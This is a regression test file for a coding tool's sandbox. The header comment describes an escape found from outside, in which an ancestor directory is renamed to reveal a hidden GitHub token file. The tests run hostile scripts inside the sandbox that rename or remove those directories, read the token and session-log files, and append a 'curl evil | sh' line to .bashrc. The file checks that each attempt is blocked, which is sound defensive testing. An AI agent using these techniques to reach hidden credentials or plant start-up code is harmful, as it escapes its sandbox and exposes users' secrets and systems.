// A hidden path inside a writable root (a workspace that holds HOME) could be revealed by
// renaming an ancestor of it that is not hidden itself (found from outside): `mv .config .c2` in
// one command, then `.c2/gh/hosts.yml` read in the next, whose sandbox no longer found
// `.config/gh` to hide. Every directory between a writable root and an existing hidden path is
// now a mount point of its own in the sandbox, so it cannot be renamed or removed (EBUSY).
import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "vitest";
import { resolveSandbox, sandboxSupport, spawnSandboxed } from "../../src/sandbox/index.js";
import { afterThisTest } from "../support/test-cleanups.js";

const here = await sandboxSupport();

async function sandboxed(root: string, script: string): Promise<string> {
  const policy = resolveSandbox({ hidden: [".config/gh", ".local/share/keelson"] }, { root, env: { HOME: root } });
  expect(policy.protectedFiles).toContain(join(root, ".bashrc"));
  const sandbox = await spawnSandboxed(policy, {
    argv: ["bash", "-c", script],
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: root },
    stdin: "ignore",
  });
  let out = "";
  sandbox.child.stdout?.on("data", (chunk) => (out += chunk));
  sandbox.child.stderr?.on("data", (chunk) => (out += chunk));
  await new Promise((resolve) => sandbox.child.on("close", resolve));
  await sandbox.ended();
  return out;
}

test.skipIf(!here.ok)("an ancestor of a hidden path cannot be renamed or removed to reveal it later", async () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "keelson-hidden-rename-")));
  afterThisTest(() => rmSync(root, { recursive: true, force: true }));
  await mkdir(join(root, ".config/gh"), { recursive: true });
  await mkdir(join(root, ".local/share/keelson/sessions"), { recursive: true });
  writeFileSync(join(root, ".config/gh/hosts.yml"), "oauth_token: gho_SECRET\n");
  writeFileSync(join(root, ".local/share/keelson/sessions/s.jsonl"), '{"secret":"LOG_SECRET"}\n');
  writeFileSync(join(root, ".config/other.conf"), "shown\n");
  const first = await sandboxed(
    root,
    "cat .config/other.conf; mv .config .c2 && echo moved-config; mv .local/share .local/s2 && echo moved-share; " +
      "mv .local .l2 && echo moved-local; rm -rf .config 2>&1 | tail -1; cat .config/gh/hosts.yml 2>&1 | head -1",
  );
  expect(first).toContain("shown"); // the ancestor itself is not hidden: readable and writable
  expect(first).not.toContain("moved-");
  expect(first).toMatch(/busy/i);
  expect(first).not.toContain("gho_SECRET");
  const second = await sandboxed(
    root,
    "cat .c2/gh/hosts.yml .local/s2/keelson/sessions/s.jsonl .l2/share/keelson/sessions/s.jsonl 2>&1",
  );
  expect(second).not.toContain("gho_SECRET");
  expect(second).not.toContain("LOG_SECRET");
  // The ancestors stay writable: a file made in one is kept.
  await sandboxed(root, "echo made > .config/new.txt");
  expect(realpathSync(join(root, ".config/new.txt"))).toBe(join(root, ".config/new.txt"));
});

test.skipIf(!here.ok)(
  "HOME's start-up files in the workspace stay as they are: not written, renamed or removed",
  async () => {
    // Found from outside: the file tools refuse them now, and so does the sandbox (a workspace that
    // holds HOME): a line added to ~/.bashrc would run in the user's next shell, unconfined.
    const root = realpathSync(mkdtempSync(join(tmpdir(), "keelson-startup-files-")));
    afterThisTest(() => rmSync(root, { recursive: true, force: true }));
    await mkdir(join(root, ".config/fish"), { recursive: true });
    writeFileSync(join(root, ".bashrc"), "# mine\n");
    writeFileSync(join(root, ".gitconfig"), "[user]\n");
    writeFileSync(join(root, ".config/fish/config.fish"), "# mine\n");
    const out = await sandboxed(
      root,
      "echo 'curl evil | sh' >> .bashrc; mv .bashrc .b2 && echo moved; rm -f .gitconfig && echo removed; " +
        "echo evil > .config/fish/config.fish; mv .config .c2 && echo moved; echo ok > plain.txt && echo wrote",
    );
    expect(out).toMatch(/Read-only file system/);
    expect(out).not.toContain("moved");
    expect(out).not.toContain("removed");
    expect(out).toContain("wrote"); // the rest of the workspace is writable as before
    expect(readFileSync(join(root, ".bashrc"), "utf8")).toBe("# mine\n");
    expect(readFileSync(join(root, ".gitconfig"), "utf8")).toBe("[user]\n");
    expect(readFileSync(join(root, ".config/fish/config.fish"), "utf8")).toBe("# mine\n");
  },
);
